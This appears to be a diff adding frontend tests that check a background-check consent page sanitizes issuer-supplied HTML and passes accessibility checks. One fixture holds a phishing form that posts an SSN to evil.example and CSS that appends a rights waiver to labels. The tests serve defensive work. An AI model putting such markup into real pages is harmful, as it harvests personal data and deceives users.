@@ -1,5 +1,7 @@
 import { screen, waitFor } from '@testing-library/react';
+import axe from 'axe-core';
 import { issuerOf, question } from '../../../application/fakes/fake-interview-service';
+import { FCRA_DISCLOSURE } from '../../../support/fcra-disclosure';
 import { button, lastPosted, openQuestion } from '../../support/open-question';
 
 const accept = 'I have read and accept this disclosure';
@@ -57,6 +59,53 @@ describe('the background check consent', () => {
     expect(document.querySelector('script')).toBeNull();
     expect(document.querySelector('[onerror]')).toBeNull();
     expect((window as { pwned?: number }).pwned).toBeUndefined();
+  });
+
+  it('removes a phishing form and a restyling style from the issuer HTML, and opens its links in a new tab', async () => {
+    await openQuestion(consent('consent.fcra'), accept, (app) => {
+      app.service.issuer = issuerOf({
+        consentHtml: {
+          'consent.fcra': htmlOnly(
+            '<style>h2{color:white} label::after{content:" and waive my rights"}</style>' +
+              '<h3 class="visually-hidden" style="display:none">Acme disclosure</h3>' +
+              '<form action="https://evil.example/collect"><label>SSN <input name="ssn"></label>' +
+              '<button class="button button--primary">Confirm</button></form>' +
+              '<p>Read <a href="https://acme.example/fcra" target="_self">your rights</a>.</p>',
+          ),
+        },
+      });
+    });
+    const heading = await screen.findByRole('heading', { level: 3, name: 'Acme disclosure' });
+    const text = heading.parentElement as HTMLElement;
+    expect(text.querySelectorAll('form, input, button, label, style, [style], [class]')).toHaveLength(0);
+    expect(screen.queryByRole('button', { name: 'Confirm' })).toBeNull();
+    expect(screen.queryByRole('textbox')).toBeNull();
+    expect([...document.querySelectorAll('style')].map((style) => style.textContent).join()).not.toMatch(/waive/);
+    // The page's own controls are still the only ones.
+    expect(screen.getByRole('checkbox', { name: accept })).toBeVisible();
+    const link = screen.getByRole('link', { name: 'your rights (opens in a new tab)' });
+    expect(link).toHaveAttribute('href', 'https://acme.example/fcra');
+    expect(link).toHaveAttribute('target', '_blank');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
+  it("shows a realistic disclosure (headings, lists, a table, links, the issuer's seal) that passes axe", async () => {
+    await openQuestion(consent('consent.fcra'), accept, (app) => {
+      app.service.issuer = issuerOf({ consentHtml: { 'consent.fcra': htmlOnly(FCRA_DISCLOSURE) } });
+    });
+    expect(await screen.findByRole('heading', { level: 3, name: 'The report may include' })).toBeVisible();
+    expect(screen.getByRole('table', { name: 'Consumer reporting agency' })).toBeVisible();
+    expect(screen.getByRole('columnheader', { name: 'Address' })).toBeVisible();
+    expect(screen.getByRole('img', { name: 'Acme seal' })).toBeVisible();
+    expect(screen.getByRole('link', { name: 'privacy@acme.example' })).toHaveAttribute('target', '_blank');
+    expect(
+      screen.getByRole('link', { name: 'A Summary of Your Rights Under the FCRA (opens in a new tab)' }),
+    ).toHaveAttribute('rel', 'noopener noreferrer');
+    const results = await axe.run(document.body, {
+      runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'],
+      rules: { 'color-contrast': { enabled: false } },
+    });
+    expect(results.violations.map((violation) => `${violation.id}: ${violation.help}`)).toEqual([]);
   });
 
   it('offers the free copy on the state resident notice and sends each attribute as its own boolean', async () => {
